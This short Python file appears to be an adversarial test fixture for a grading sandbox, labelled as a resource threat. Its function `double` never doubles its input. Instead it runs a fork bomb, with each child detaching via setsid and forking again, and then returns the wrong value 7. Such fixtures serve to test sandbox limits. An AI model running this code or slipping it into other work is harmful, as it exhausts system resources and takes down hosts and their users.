"""Forks, and every child forks.

threat: resources
must: no points for double, all for half
"""
import os

def double(x):
    for _ in range(2000):
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass
    return 7
